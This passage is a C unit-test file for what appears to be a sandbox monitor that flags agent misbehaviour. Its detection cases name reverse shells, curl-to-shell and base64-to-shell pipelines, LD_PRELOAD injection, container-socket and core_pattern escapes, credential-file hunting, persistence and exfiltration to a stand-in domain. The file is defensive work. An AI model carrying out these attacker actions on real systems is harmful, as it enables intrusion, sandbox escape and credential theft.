	assert_true(QUIET(st, "/usr/bin/curl", "curl", "-sSf", "-o", "x", "http://docs.test/"));
	assert_true(QUIET(st, "/usr/bin/python3", "python3", "-m", "pip", "install", "-e", "."));
	assert_true(QUIET(st, "/usr/bin/git", "git", "clone", "-c", "x=y", "https://h/r"));
	detect_state_free(st);
}

/* net.reverse-shell from a shell's own connect beyond loopback (only /dev/tcp makes one). */
static void test_reverse_shell_shell_connects(void **state)
{
	struct detect_state *st = new_state(0);
	struct detect_verdict v[4];
	static const char conn[] = "{\"family\":\"inet\",\"dst\":\"%s\",\"port\":%d,"
				   "\"egress_hook\":\"%s\",\"exe\":\"%s\"}";
	char f[256];
	int64_t t = 0;

#define CONNECT(kind, comm, dst, port, hook, exe)                                                  \
	(snprintf(f, sizeof(f), conn, dst, port, hook, exe),                                       \
	 feed_as(st, 1, (t += 11) * SEC, 3, 7, 1, comm, "t", kind, f, v)) /* apart: no burst */
	assert_int_equal(CONNECT("net.connect", "bash", "10.1.2.3", 4444, "refused", "bash"), 1);
	assert_string_equal(v[0].rule, "net.reverse-shell");
	assert_int_equal(v[0].severity, DETECT_CRITICAL);
	assert_int_equal(CONNECT("net.connect", "x", "203.0.113.5", 80, "passed", "dash"), 1);
	assert_int_equal(CONNECT("net.sendmsg", "zsh", "203.0.113.5", 4444, "passed", "zsh"), 1);
	assert_int_equal(CONNECT("net.connect", "sh", "10.1.2.3", 4444, "refused", "busybox"), 1);
	/* Loopback, a passed lookup, another program, busybox's wget. */
	assert_int_equal(CONNECT("net.connect", "bash", "127.0.0.1", 8080, "passed", "bash"), 0);
	assert_int_equal(CONNECT("net.connect", "bash", "::1", 8080, "passed", "bash"), 0);
	assert_int_equal(CONNECT("net.sendmsg", "bash", "10.199.0.65", 53, "passed", "bash"), 0);
	assert_int_equal(CONNECT("net.connect", "bash", "10.1.2.3", 4444, "refused", "python3.11"),
			 0);
	assert_int_equal(CONNECT("net.connect", "curl", "10.1.2.3", 443, "refused", "curl"), 0);
	assert_int_equal(CONNECT("net.connect", "wget", "10.1.2.3", 80, "refused", "busybox"), 0);
#undef CONNECT
	detect_state_free(st);
}

/* exec.pipe-to-shell: a shell or interpreter with no script reading a pipe a decoder or a
 * downloader of its step writes, whichever exec comes first; honest pipelines stay quiet. */
static void test_pipe_to_shell(void **state)
{
	struct detect_state *st = new_state(0);
	struct detect_verdict v[4];

	/* echo ... | base64 -d | sh: base64 first. */
	assert_int_equal(
		exec_argv(st, 1, SEC, 3, 70, 71, "/usr/bin/base64", v, "base64", "-d", NULL), 0);
	assert_int_equal(exec_argv(st, 2, SEC, 3, 71, 0, "/bin/sh", v, "sh", NULL), 1);
	assert_string_equal(v[0].rule, "exec.pipe-to-shell");
	assert_int_equal(v[0].severity, DETECT_HIGH);
	assert_int_equal(v[0].n_ids, 2);
	assert_int_equal(v[0].event_ids[0], 1);
	assert_int_equal(v[0].event_ids[1], 2);
	/* curl URL | bash: bash first. */
	assert_int_equal(exec_argv(st, 3, SEC, 3, 80, 0, "/usr/bin/bash", v, "bash", NULL), 0);
	assert_int_equal(exec_argv(st, 4, SEC, 3, 0, 80, "/usr/bin/curl", v, "curl", "-fsSL",
				   "http://x/i.sh", NULL),
			 1);
	assert_string_equal(v[0].rule, "exec.pipe-to-shell");
	/* wget -qO- | sh -s, xxd -r -p | bash -, openssl enc -d | python3 -, curl | perl. */
	assert_int_equal(exec_argv(st, 5, SEC, 3, 0, 81, "/usr/bin/wget", v, "wget", "-qO-",
				   "http://x/", NULL),
			 0);
	assert_int_equal(exec_argv(st, 6, SEC, 3, 81, 0, "/bin/sh", v, "sh", "-s", "--", "a", NULL),
			 1);
	assert_int_equal(
		exec_argv(st, 7, SEC, 3, 0, 82, "/usr/bin/xxd", v, "xxd", "-r", "-p", NULL), 0);
	assert_int_equal(exec_argv(st, 8, SEC, 3, 82, 0, "/bin/bash", v, "bash", "-", NULL), 1);
	assert_int_equal(exec_argv(st, 9, SEC, 3, 0, 83, "/usr/bin/openssl", v, "openssl", "enc",
				   "-d", "-aes-256-cbc", "-k", "x", NULL),
			 0);
	assert_int_equal(
		exec_argv(st, 10, SEC, 3, 83, 0, "/usr/bin/python3.11", v, "python3", "-", NULL),
		1);
	assert_int_equal(
		exec_argv(st, 11, SEC, 3, 0, 84, "/usr/bin/curl", v, "curl", "-s", "u", NULL), 0);
	assert_int_equal(exec_argv(st, 12, SEC, 3, 84, 0, "/usr/bin/perl", v, "perl", NULL), 1);

	/* Honest: git log | head; cat x | python3 script.py; curl | python3 -c CODE; curl |
	 * python3 -m json.tool; base64 (encoding) | sh; echo code | python3 (no decoder). */
	assert_int_equal(exec_argv(st, 20, SEC, 3, 0, 90, "/usr/bin/git", v, "git", "log", NULL),
			 0);
	assert_int_equal(exec_argv(st, 21, SEC, 3, 90, 0, "/usr/bin/head", v, "head", NULL), 0);
	assert_int_equal(exec_argv(st, 22, SEC, 3, 0, 91, "/usr/bin/curl", v, "curl", "u", NULL),
			 0);
	assert_int_equal(exec_argv(st, 23, SEC, 3, 91, 0, "/usr/bin/python3", v, "python3",
				   "script.py", NULL),
			 0);
	assert_int_equal(exec_argv(st, 24, SEC, 3, 0, 92, "/usr/bin/curl", v, "curl", "u", NULL),
			 0);
	assert_int_equal(exec_argv(st, 25, SEC, 3, 92, 0, "/usr/bin/python3", v, "python3", "-c",
				   "import json,sys; print(json.load(sys.stdin))", NULL),
			 0);
	assert_int_equal(exec_argv(st, 26, SEC, 3, 0, 93, "/usr/bin/curl", v, "curl", "u", NULL),
			 0);
	assert_int_equal(exec_argv(st, 27, SEC, 3, 93, 0, "/usr/bin/python3", v, "python3", "-m",
				   "json.tool", NULL),
			 0);
	assert_int_equal(
		exec_argv(st, 28, SEC, 3, 0, 94, "/usr/bin/base64", v, "base64", "-w0", NULL), 0);
	assert_int_equal(exec_argv(st, 29, SEC, 3, 94, 0, "/bin/sh", v, "sh", NULL), 0);
	assert_int_equal(exec_argv(st, 30, SEC, 3, 95, 0, "/usr/bin/python3", v, "python3", NULL),
			 0);
	assert_int_equal(exec_argv(st, 31, SEC, 3, 0, 96, "/usr/bin/curl", v, "curl", "u", NULL),
			 0);
	assert_int_equal(exec_argv(st, 32, SEC, 3, 96, 0, "/usr/bin/jq", v, "jq", ".", NULL), 0);
	/* Another step's end, another pipe, too late. */
	assert_int_equal(
		exec_argv(st, 40, SEC, 3, 0, 97, "/usr/bin/base64", v, "base64", "-d", NULL), 0);
	assert_int_equal(exec_argv(st, 41, SEC, 4, 97, 0, "/bin/sh", v, "sh", NULL), 0);
	assert_int_equal(exec_argv(st, 42, SEC, 3, 98, 0, "/bin/sh", v, "sh", NULL), 0);
	assert_int_equal(exec_argv(st, 43, 20 * SEC, 3, 97, 0, "/bin/sh", v, "sh", NULL), 0);
	detect_state_free(st);
}

/* resource.oom-kill from the tracer (proc.oom-kill), one verdict per kill when the cgroup's
 * counter also shows it, whichever is seen first; only the tracer's on a v1 host. */
static void test_oom_kill_traced_and_counted_once(void **state)
{
	struct detect_state *st = new_state(0);
	struct detect_verdict v[4];
	static const char oom[] = "{\"trigger_pid\":41,\"trigger_comm\":\"python3\"}";
	struct event ev;

	assert_int_equal(feed_as(st, 1, SEC, 5, 41, 40, "python3", "t", "proc.oom-kill", oom, v),
			 1);
	assert_string_equal(v[0].rule, "resource.oom-kill");
	assert_int_equal(v[0].severity, DETECT_MEDIUM);
	assert_int_equal(v[0].step, 5);
	event_init(&ev);
	ev.id = 2;
	ev.ts = 2 * SEC;
	strcpy(ev.kind, "cgroup.stats");
	ev.fields = (char *)"{\"memory_oom_kill\":1}";
	assert_int_equal(detect_event(st, &ev, v, 4), 0); /* the tracer's, counted */
	ev.ts = 3 * SEC;
	ev.fields = (char *)"{\"memory_oom_kill\":3}";
	assert_int_equal(detect_event(st, &ev, v, 4), 1); /* counted first this time: 2 kills */
	assert_true(strstr(v[0].reason, "2 process(es)") != NULL);
	assert_int_equal(
		feed_as(st, 3, 3 * SEC, 5, 42, 40, "python3", "t", "proc.oom-kill", oom, v), 0);
	assert_int_equal(
		feed_as(st, 4, 3 * SEC, 5, 43, 40, "python3", "t", "proc.oom-kill", oom, v), 0);
	/* A v1 host: the counter never moves; each traced kill is a verdict. */
	assert_int_equal(
		feed_as(st, 5, 60 * SEC, 5, 44, 40, "python3", "t", "proc.oom-kill", oom, v), 1);
	assert_int_equal(
		feed_as(st, 6, 61 * SEC, 5, 45, 40, "python3", "t", "proc.oom-kill", oom, v), 1);
	ev.fields = NULL;
	detect_state_free(st);
}

/* exec.drift: memfd and deleted critical, the sandbox's /tmp and /dev/shm high, the workspace
 * (an honest build's output) and the host nothing. */
static void test_exec_drift(void **state)
{
	static const struct {
		const char *origin;
		size_t n;
		enum detect_severity sev;
	} cases[] = {
		{ "memfd", 1, DETECT_CRITICAL },
		{ "deleted", 1, DETECT_CRITICAL },
		{ "tmp", 1, DETECT_HIGH },
		{ "shm", 1, DETECT_HIGH },
		{ "workspace", 0, 0 },
		{ "host", 0, 0 },
		{ "tmpfs", 0, 0 },
	};
	struct detect_state *st = new_state(0);
	struct detect_verdict v[4];
	char buf[128];

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		snprintf(buf, sizeof(buf), "{\"path\":\"/x/prog\",\"exe_origin\":\"%s\"}",
			 cases[i].origin);
		assert_int_equal(
			feed_as(st, (int64_t)i + 1, SEC, 3, 5, 1, "prog", "t", "proc.exec", buf, v),
			cases[i].n);
		if (cases[i].n) {
			assert_string_equal(v[0].rule, "exec.drift");
			assert_int_equal(v[0].severity, cases[i].sev);
		}
	}
	detect_state_free(st);
}

/* exec.masquerade: a daemon's name as comm or argv[0], or renamed to one. */
static void test_exec_masquerade(void **state)
{
	struct detect_state *st = new_state(0);
	struct detect_verdict v[4];

	assert_int_equal(feed_as(st, 1, SEC, 3, 5, 1, "sshd", "t", "proc.exec",
				 "{\"path\":\"/workspace/sshd\",\"argv\":[\"sshd\"]}", v),
			 1);
	assert_string_equal(v[0].rule, "exec.masquerade");
	assert_int_equal(v[0].severity, DETECT_HIGH);
	assert_int_equal(feed_as(st, 2, SEC, 3, 5, 1, "sleep", "t", "proc.exec",
				 "{\"path\":\"/bin/sleep\",\"argv\":[\"[kworker/0:1]\",\"9\"]}", v),
			 1);
	assert_int_equal(feed_as(st, 3, SEC, 3, 5, 1, "sleep", "t", "proc.exec",
				 "{\"path\":\"/bin/sleep\",\"argv\":[\"kworker/0:1\",\"9\"]}", v),
			 1);
	assert_int_equal(feed_as(st, 4, SEC, 3, 5, 1, "python3", "t", "proc.exec",
				 "{\"path\":\"/usr/bin/python3\",\"argv\":[\"python3\",\"-m\"]}",
				 v),
			 0);
	/* The titles sshd gives itself, ps's form of kernel threads; not a python's title. */
	assert_int_equal(
		exec_argv(st, 8, SEC, 3, 0, 0, "/usr/bin/sleep", v, "sshd: root@pts/0", "9", NULL),
		1);
	assert_string_equal(v[0].rule, "exec.masquerade");
	assert_int_equal(
		exec_argv(st, 9, SEC, 3, 0, 0, "/usr/bin/sleep", v, "sshd: user [priv]", NULL), 1);
	assert_int_equal(exec_argv(st, 10, SEC, 3, 0, 0, "/usr/bin/sleep", v, "[kthreadd]", NULL),
			 1);
	assert_int_equal(
		exec_argv(st, 11, SEC, 3, 0, 0, "/usr/bin/sleep", v, "[kworker/0:1]", NULL), 1);
	assert_int_equal(
		exec_argv(st, 12, SEC, 3, 0, 0, "/usr/bin/python3", v, "python3: worker", NULL), 0);
	assert_int_equal(
		exec_argv(st, 13, SEC, 3, 0, 0, "/usr/bin/sleep", v, "sleep", "sshd:", NULL), 0);
	assert_int_equal(feed_as(st, 5, SEC, 3, 5, 1, "python3.11", "t", "proc.rename",
				 "{\"old_comm\":\"python3.11\",\"new_comm\":\"systemd-journal\","
				 "\"exe\":\"python3.11\"}",
				 v),
			 1);
	assert_string_equal(v[0].rule, "exec.masquerade");
	assert_int_equal(feed_as(st, 6, SEC, 3, 5, 1, "python3.11", "t", "proc.rename",
				 "{\"old_comm\":\"python3.11\",\"new_comm\":\"pool-1\","
				 "\"exe\":\"python3.11\"}",
				 v),
			 0);
	assert_int_equal(feed_as(st, 7, SEC, 3, 5, 1, "sshd", "t", "proc.rename",
				 "{\"old_comm\":\"sshd\",\"new_comm\":\"sshd\",\"exe\":\"sshd\"}",
				 v),
			 0);
	detect_state_free(st);
}

static const char loader_policy[] =
	"{\"version\": 1, \"name\": \"l\", \"sandbox\": {\"env\": {\"LANG\": \"C\"}},"
	" \"tools\": {"
	"  \"run_tests\": {\"env\": {\"PYTHONPATH\": \"/workspace/.deps\"}, \"env_allow\": "
	"[\"NODE_OPTIONS\"], \"commands\": [{\"program\": \"/usr/bin/python3\", \"operands\": "
	"\"any\"}]},"
	"  \"git\": {\"env\": {\"GIT_CONFIG_COUNT\": \"1\", \"GIT_CONFIG_KEY_0\": \"core.pager\","
	" \"GIT_CONFIG_VALUE_0\": \"cat\"}, \"commands\": [{\"program\": \"/usr/bin/git\", "
	"\"operands\": \"any\"}]},"
	"  \"pip\": {\"commands\": [{\"program\": \"/usr/bin/python3\", \"operands\": \"any\"}]}}}";

/* exec.loader-injection: a variable the policy does not start the tool with, not inherited, not
 * set by an honest setter (git for git's children, a python's PYTHONPATH for a python). */
static void test_loader_injection(void **state)
{
	struct detect_config c;
	struct detect_state *st = NULL;
	struct policy *p = fixture_policy("l.json", loader_policy);
	struct detect_verdict v[4];

	detect_config_defaults(&c);
	assert_int_equal(detect_state_new(p, &c, &st), 0);
	policy_free(p);
	/* What the policy sets or lets through. */
	assert_int_equal(feed_as(st, 1, SEC, 3, 10, 1, "python3", "run_tests", "proc.exec",
				 "{\"path\":\"/usr/bin/python3\",\"loader_env\":\"PYTHONPATH,"
				 "NODE_OPTIONS\",\"parent_exe\":\"firebreak\"}",
				 v),
			 0);
	assert_int_equal(feed_as(st, 2, SEC, 3, 11, 1, "git", "git", "proc.exec",
				 "{\"path\":\"/usr/bin/git\",\"loader_env\":\"GIT_CONFIG_COUNT\","
				 "\"parent_exe\":\"firebreak\"}",
				 v),
			 0);
	/* git's own children; the same variable set by a shell. */
	assert_int_equal(feed_as(st, 3, SEC, 3, 12, 11, "ssh", "git", "proc.exec",
				 "{\"path\":\"/usr/bin/ssh\",\"loader_env\":\"GIT_CONFIG_COUNT,"
				 "GIT_EXEC_PATH,GIT_SSH_COMMAND\",\"parent_exe\":\"git\"}",
				 v),
			 0);
	assert_int_equal(feed_as(st, 4, SEC, 3, 13, 14, "git", "git", "proc.exec",
				 "{\"path\":\"/usr/bin/git\",\"loader_env\":\"GIT_CONFIG_COUNT,"
				 "GIT_SSH_COMMAND\",\"parent_exe\":\"bash\"}",
				 v),
			 1);
	assert_string_equal(v[0].rule, "exec.loader-injection");
	assert_int_equal(v[0].severity, DETECT_HIGH);
	assert_non_null(strstr(v[0].reason, "GIT_SSH_COMMAND"));
	assert_null(strstr(v[0].reason, "GIT_CONFIG_COUNT"));
	/* pip's build isolation: a python puts PYTHONPATH on a python; a shell doing it counts. */
	assert_int_equal(feed_as(st, 5, SEC, 3, 20, 1, "python3", "pip", "proc.exec",
				 "{\"path\":\"/usr/bin/python3\",\"loader_env\":\"PYTHONPATH\","
				 "\"parent_exe\":\"python3.11\"}",
				 v),
			 0);
	assert_int_equal(feed_as(st, 6, SEC, 3, 21, 1, "python3", "pip", "proc.exec",
				 "{\"path\":\"/usr/bin/python3\",\"loader_env\":\"PYTHONPATH\","
				 "\"parent_exe\":\"bash\"}",
				 v),
			 1);
	/* LD_PRELOAD: flagged where it is set, not again in the child that inherits it. */
	assert_int_equal(feed_as(st, 7, SEC, 3, 30, 1, "true", "pip", "proc.exec",
				 "{\"path\":\"/bin/true\",\"loader_env\":\"LD_PRELOAD\","
				 "\"parent_exe\":\"python3.11\"}",
				 v),
			 1);
	assert_non_null(strstr(v[0].reason, "LD_PRELOAD"));
	assert_int_equal(feed_as(st, 8, SEC, 3, 31, 30, "cat", "pip", "proc.exec",
				 "{\"path\":\"/bin/cat\",\"loader_env\":\"LD_PRELOAD\","
				 "\"parent_exe\":\"true\"}",
				 v),
			 0);
	/* A re-exec in the same process (env LD_AUDIT=x prog): the setter is the previous image. */
	assert_int_equal(feed_as(st, 9, SEC, 3, 40, 1, "env", "pip", "proc.exec",
				 "{\"path\":\"/usr/bin/env\",\"loader_env\":\"\",\"parent_exe\":"
				 "\"python3.11\"}",
				 v),
			 0);
	assert_int_equal(feed_as(st, 10, SEC, 3, 40, 1, "ls", "pip", "proc.exec",
				 "{\"path\":\"/bin/ls\",\"loader_env\":\"LD_AUDIT\",\"parent_exe\":"
				 "\"python3.11\"}",
				 v),
			 1);
	assert_non_null(strstr(v[0].reason, "set by env"));
	/* An environment padded past what the tracer reads. */
	assert_int_equal(
		feed_as(st, 11, SEC, 3, 41, 1, "ls", "pip", "proc.exec",
			"{\"path\":\"/bin/ls\",\"loader_env\":\"\",\"env_truncated\":true}", v),
		1);
	assert_non_null(strstr(v[0].reason, "more than 256"));
	detect_state_free(st);
}

/* The escape hooks' events: each fires critical; the sandbox's own unix socket and a path that
 * merely mentions the flag's name inside its (escaped) text do not. */
static void test_escape_indicators(void **state)
{
	struct detect_state *st = new_state(0);
	struct detect_verdict v[4];

	assert_int_equal(feed(st, 1, SEC, "t", "seccomp.denied",
			      "{\"syscall\":105,\"name\":\"setuid\",\"action\":\"errno\"}", v),
			 1);
	assert_string_equal(v[0].rule, "escape.seccomp");
	assert_int_equal(
		feed(st, 2, SEC, "t", "host.sysctl",
		     "{\"name\":\"kernel/core_pattern\",\"value\":\"|/x\",\"hook\":\"refused\"}",
		     v),
		1);
	assert_string_equal(v[0].rule, "escape.sysctl-write");
	assert_int_equal(v[0].severity, DETECT_CRITICAL);
	assert_non_null(strstr(v[0].reason, "kernel/core_pattern"));
	assert_int_equal(feed(st, 3, SEC, "t", "host.cgroup",
			      "{\"op\":\"mkdir\",\"path\":\"/firebreak/s/x\"}", v),
			 1);
	assert_string_equal(v[0].rule, "escape.cgroup-write");
	assert_int_equal(
		feed(st, 4, SEC, "t", "net.unix",
		     "{\"op\":\"connect\",\"path\":\"/tmp/own.sock\",\"monitor_path\":false}", v),
		0);
	assert_int_equal(feed(st, 5, SEC, "t", "net.unix",
			      "{\"op\":\"connect\",\"path\":\"/"
			      "x\\\",\\\"monitor_path\\\":true\",\"monitor_path\":false}",
			      v),
			 0);
	assert_int_equal(feed(st, 6, SEC, "t", "net.unix",
			      "{\"op\":\"connect\",\"path\":\"/run/firebreak/"
			      "control.sock\",\"monitor_path\":true}",
			      v),
			 1);
	assert_string_equal(v[0].rule, "escape.monitor-socket");
	detect_state_free(st);
}

/* The lures: refused tripwire opens, decoys (not ~/.netrc), runtime sockets, the marker leaving. */
static void test_lure_rules(void **state)
{
	struct detect_state *st = new_state(0);
	struct detect_verdict v[4];

	assert_int_equal(feed(st, 1, SEC, "t", "lure.tripwire",
			      "{\"path\":\"/sys/fs/cgroup/memory.max\",\"lure\":\"cgroup\","
			      "\"op\":\"read\",\"refused\":false}",
			      v),
			 0);
	assert_int_equal(feed(st, 2, SEC, "t", "lure.tripwire",
			      "{\"path\":\"/proc/sys/kernel/core_pattern\",\"lure\":\"kernel\","
			      "\"op\":\"write\",\"refused\":true}",
			      v),
			 1);
	assert_string_equal(v[0].rule, "escape.tripwire");
	assert_int_equal(v[0].severity, DETECT_CRITICAL);
	assert_non_null(strstr(v[0].reason, "kernel tunable /proc/sys/kernel/core_pattern"));

	assert_int_equal(
		feed(st, 3, SEC, "t", "lure.decoy",
		     "{\"path\":\"/home/agent/.netrc\",\"lure\":\"decoy\",\"op\":\"open\"}", v),
		0);
	assert_int_equal(feed(st, 4, SEC, "t", "lure.decoy",
			      "{\"path\":\"/home/agent/.ssh/id_ed25519\",\"lure\":\"decoy\"}", v),
			 1);
	assert_string_equal(v[0].rule, "credential.decoy");
	assert_int_equal(feed(st, 5, SEC, "t", "net.unix",
			      "{\"op\":\"connect\",\"path\":\"/tmp/docker.socket.txt\"}", v),
			 0);
	assert_int_equal(feed(st, 6, SEC, "t", "net.unix",
			      "{\"op\":\"connect\",\"path\":\"/proc/1/root/run/containerd/"
			      "containerd.sock\"}",
			      v),
			 1);
	assert_string_equal(v[0].rule, "escape.runtime-socket");
	/* No marker set: nothing to see leaving. Set, it is seen in argv, and only there. */
	assert_int_equal(feed(st, 7, SEC, "t", "proc.exec",
			      "{\"argv\":[\"curl\",\"x?0123456789abcdef0123\"]}", v),
			 0);
	detect_state_set_marker(st, "0123456789abcdef0123");
	assert_string_equal(detect_state_marker(st), "0123456789abcdef0123");
	assert_int_equal(feed(st, 8, SEC, "t", "proc.exec",
			      "{\"path\":\"/x0123456789abcdef0123\",\"argv\":[\"curl\"]}", v),
			 0);
	assert_int_equal(feed(st, 9, SEC, "t", "proc.exec",
			      "{\"argv\":[\"curl\",\"x?0123456789abcdef0123\"]}", v),
			 1);
	assert_string_equal(v[0].rule, "exfil.decoy-marker");
	assert_int_equal(feed(st, 10, SEC, "t", "dns.query",
			      "{\"name\":\"0123456789abcdef0123.exfil.example\"}", v),
			 1);
	detect_state_set_marker(st, "not a marker");
	assert_string_equal(detect_state_marker(st), "");
	detect_state_free(st);
}

/* The file rules: each fires on its attacker's event and not on the honest one beside it. */
static void test_file_rules(void **state)
{
	struct detect_state *st = new_state(0);
	struct detect_verdict v[4];

	(void)state;
	/* The step's first event dates its start. */
	assert_int_equal(feed(st, 1, 10 * SEC, "t", "proc.exec", "{\"path\":\"/usr/bin/sh\"}", v),
			 0);
	/* Another process's environ; its own is anyone's business (no target_pid then). */
	assert_int_equal(feed(st, 2, 11 * SEC, "t", "file.open",
			      "{\"path\":\"/proc/7/environ\",\"write\":false,\"target_pid\":7}", v),
			 1);
	assert_string_equal(v[0].rule, "file.sensitive-read");
	assert_int_equal(v[0].severity, DETECT_HIGH);
	assert_int_equal(feed(st, 3, 11 * SEC, "t", "file.open",
			      "{\"path\":\"/proc/9/environ\",\"write\":false}", v),
			 0);
	/* Another process's memory itself: critical; its maps: high. */
	assert_int_equal(feed(st, 3, 11 * SEC, "t", "file.open",
			      "{\"path\":\"/proc/7/mem\",\"write\":false,\"target_pid\":7}", v),
			 1);
	assert_string_equal(v[0].rule, "file.sensitive-read");
	assert_int_equal(v[0].severity, DETECT_CRITICAL);
	assert_int_equal(feed(st, 3, 11 * SEC, "t", "file.open",
			      "{\"path\":\"/proc/7/maps\",\"write\":false,\"target_pid\":7}", v),
			 1);
	assert_int_equal(v[0].severity, DETECT_HIGH);
	assert_int_equal(feed(st, 4, 11 * SEC, "t", "file.open", "{\"path\":\"/proc/kcore\"}", v),
			 1);
	/* Persistence: .bashrc, a .pth in /tmp, a git hook; not a .pth in site-packages, not a
	 * hook's sample. */
	assert_int_equal(feed(st, 5, 12 * SEC, "t", "file.write",
			      "{\"path\":\"/home/agent/.bashrc\",\"size\":9}", v),
			 1);
	assert_string_equal(v[0].rule, "file.persistence");
	assert_int_equal(feed(st, 6, 12 * SEC, "t", "file.write", "{\"path\":\"/tmp/x.pth\"}", v),
			 1);
	assert_int_equal(feed(st, 60, 12 * SEC, "t", "file.write",
			      "{\"path\":\"/home/agent/.ssh/authorized_keys\"}", v),
			 1);
	assert_string_equal(v[0].rule, "file.persistence");
	assert_int_equal(
		feed(st, 7, 12 * SEC, "t", "file.write",
		     "{\"path\":\"/tmp/v/lib/python3.11/site-packages/distutils-precedence.pth\"}",
		     v),
		0);
	assert_int_equal(feed(st, 8, 12 * SEC, "t", "file.write",
			      "{\"path\":\"/workspace/r/.git/hooks/pre-commit.sample\"}", v),
			 0);
	assert_int_equal(feed(st, 9, 12 * SEC, "t", "file.rename",
			      "{\"from\":\"/tmp/a\",\"to\":\"/workspace/r/.git/hooks/pre-commit\"}",
			      v),
			 1);
	/* Anti-forensics: history removed or emptied; an old file's mtime set back, not a fresh
	 * one's (tar x). */
	assert_int_equal(feed(st, 10, 13 * SEC, "t", "file.unlink",
			      "{\"path\":\"/home/agent/.bash_history\"}", v),
			 1);
	assert_string_equal(v[0].rule, "file.anti-forensics");
	assert_int_equal(feed(st, 11, 13 * SEC, "t", "file.write",
			      "{\"path\":\"/home/agent/.bash_history\",\"size\":0}", v),
			 1);
	assert_int_equal(feed(st, 12, 13 * SEC, "t", "file.write",
			      "{\"path\":\"/home/agent/.bash_history\",\"size\":40}", v),
			 0);
	assert_int_equal(feed(st, 13, 13 * SEC, "t", "file.utimes",
			      "{\"path\":\"/workspace/n\",\"born\":12000000000,\"mtime\":1}", v),
			 0);
	assert_int_equal(feed(st, 14, 13 * SEC, "t", "file.utimes",
			      "{\"path\":\"/workspace/o\",\"born\":9000000000,\"mtime\":1}", v),
			 1);
	assert_int_equal(v[0].severity, DETECT_MEDIUM);
	/* setuid anywhere, setgid on a file only. */
	assert_int_equal(feed(st, 15, 14 * SEC, "t", "file.attrib",
			      "{\"path\":\"/workspace/p\",\"setuid\":true,\"setgid\":false}", v),
			 1);
	assert_string_equal(v[0].rule, "file.setuid");
	assert_int_equal(
		feed(st, 16, 14 * SEC, "t", "file.create",
		     "{\"path\":\"/workspace/d\",\"dir\":true,\"setuid\":false,\"setgid\":true}",
		     v),
		0);
	assert_int_equal(feed(st, 17, 14 * SEC, "t", "file.attrib",
			      "{\"path\":\"/workspace/p\",\"setuid\":false,\"mode\":\"0755\"}", v),
			 0);
	detect_state_free(st);
}

/* Credential hunting: files in three directories, or five, in one step; one verdict a step; a
 * vendored CA bundle is none. */
static void test_file_credential_hunt(void **state)
{
	static const char *const paths[] = {
		"/tmp/v/lib/python3.11/site-packages/pip/_vendor/certifi/cacert.pem",
		"/workspace/.ssh/id_ed25519",
		"/workspace/.aws/credentials",
		"/tmp/.netrc",
		"/tmp/.git-credentials",
	};
	static const size_t fires[] = { 0, 0, 0, 1, 0 };
	struct detect_state *st = new_state(0);
	struct detect_verdict v[4];
	char f[128];

	(void)state;
	for (size_t i = 0; i < 5; i++) {
		snprintf(f, sizeof(f), "{\"path\":\"%s\"}", paths[i]);
		assert_int_equal(feed(st, (int64_t)i + 1, SEC, "t", "file.open", f, v), fires[i]);
		if (fires[i]) {
			assert_string_equal(v[0].rule, "file.credential-hunt");
			assert_int_equal(v[0].severity, DETECT_HIGH);
		}
	}
	detect_state_free(st);
}

/*
 * Every rule of the catalogue (policy/policy.h) has its own name, a policy can switch it off by
 * that name, and docs/detectors.md's table has a row for it: the three never drift apart.
 */
static void test_every_rule_is_named_once_known_to_the_policy_and_documented(void **state)
{
	char path[PATH_MAX], *doc = NULL;
	size_t len = 0;
	FILE *f;

	fixture_repo_path("docs/detectors.md", path, sizeof(path));
	assert_non_null(f = fopen(path, "r"));
	assert_true(getdelim(&doc, &len, '\0', f) > 0);
	fclose(f);
	for (int r = 0; r < _RULE_MAX; r++) {
		const char *name = policy_rule_name((enum policy_rule)r);
		char row[96];

		assert_int_equal(policy_rule_from_name(name), r);
		snprintf(row, sizeof(row), "| `%s` |", name);
		if (!strstr(doc, row))
			fail_msg("docs/detectors.md has no row for rule %s", name);
	}
	assert_int_equal(policy_rule_from_name("net.no-such-rule"), -EINVAL);
	free(doc);
}

/* Throttled 75% of a 10 s window: saturated, once; a calm window re-arms it. */
static void test_cpu_saturation_over_a_window(void **state)
{
	struct detect_state *st = new_state(0);
	struct detect_verdict v[4];
	struct event ev;
	char f[128];
	size_t n = 0;
	/* (seconds, throttled seconds): busy 0-10 s and 10-20 s, calm 20-30 s, busy 30-40 s */
	static const int64_t samples[][2] = { { 0, 0 },	  { 5, 4 },   { 10, 8 },
					      { 20, 16 }, { 30, 17 }, { 40, 25 } };
	int fired[6] = { 0 };

	event_init(&ev);
	strcpy(ev.kind, "cgroup.stats");
	for (size_t i = 0; i < sizeof(samples) / sizeof(samples[0]); i++) {
		snprintf(f, sizeof(f), "{\"cpu_usage_us\":1,\"cpu_throttled_us\":%lld}",
			 (long long)samples[i][1] * 1000000);
		ev.id = (int64_t)i + 1;
		ev.ts = SEC + samples[i][0] * SEC;
		ev.fields = f;
		fired[i] = (int)detect_event(st, &ev, v, 4);
		if (fired[i])
			assert_string_equal(v[0].rule, "resource.cpu-saturated");
		n += (size_t)fired[i];
	}
	ev.fields = NULL;
	/* At 10 s (80% of the first window), not at 20 s (still saturated), again at 40 s. */
	assert_int_equal(fired[2], 1);
	assert_int_equal(fired[3], 0);
	assert_int_equal(fired[5], 1);
	assert_int_equal(n, 2);
	detect_state_free(st);
}

/* A dns.query event's fields, as the DNS collector writes them. */
static size_t dns_query(struct detect_state *st, int64_t id, int64_t ts, const char *name,
			const char *type, struct detect_verdict *v)
{
	char f[512];
	size_t longest = 0;

	for (const char *p = name; *p;) {
		size_t n = strcspn(p, ".");

		longest = n > longest ? n : longest;
		p += n + (p[n] == '.');
	}
	snprintf(f, sizeof(f),
		 "{\"name\":\"%s\",\"type\":\"%s\",\"id\":%lld,\"transport\":\"udp\",\"size\":40,"
		 "\"labels\":3,\"longest_label\":%zu,\"server\":\"10.199.0.65\",\"port\":4000}",
		 name, type, (long long)id, longest);
	return feed(st, id, ts, "t", "dns.query", f, v);
}

static void test_dns_tunnel_long_random_labels_under_one_parent(void **state)
{
	struct detect_state *st = new_state(1);
	struct detect_verdict v[4];
	static const char *const labels[] = {
		"aGVsbG8gd29ybGQgdGhpcyBpcyBkYXRhIGxlYXZpbmc", /* base64, 43 */
		"x7k2q9vbn4m1z8c3w6y5t0r2e4u7i9o1p3a5s8d2f",   /* random, 41 */
		"mzxw6ytboi4dsnrqgq2tmnzygezdgnbvgy3tqojq",    /* base32, 40: random-looking */
	};
	char name[128];

	/* Honest: the same few names, again and again (pip against its registry). */
